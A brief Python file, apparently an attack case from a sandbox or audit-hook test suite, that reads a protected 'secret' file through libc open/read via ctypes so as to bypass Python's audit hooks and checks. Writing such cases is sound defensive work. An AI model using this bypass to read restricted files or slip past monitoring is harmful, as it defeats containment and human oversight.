# mypy: ignore-errors
# Technique: libc `open`/`read` through ctypes, below Python's `open` (no audit hooks, no
# Python-level checks), to read the secret file.
import ctypes
import os


def attack(secret_path, canary_path):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.open(secret_path.encode(), os.O_RDONLY)
    if fd < 0:
        return f"refused:{ctypes.get_errno()}"
    buf = ctypes.create_string_buffer(256)
    n = libc.read(fd, buf, 256)
    return buf.raw[:n].decode()
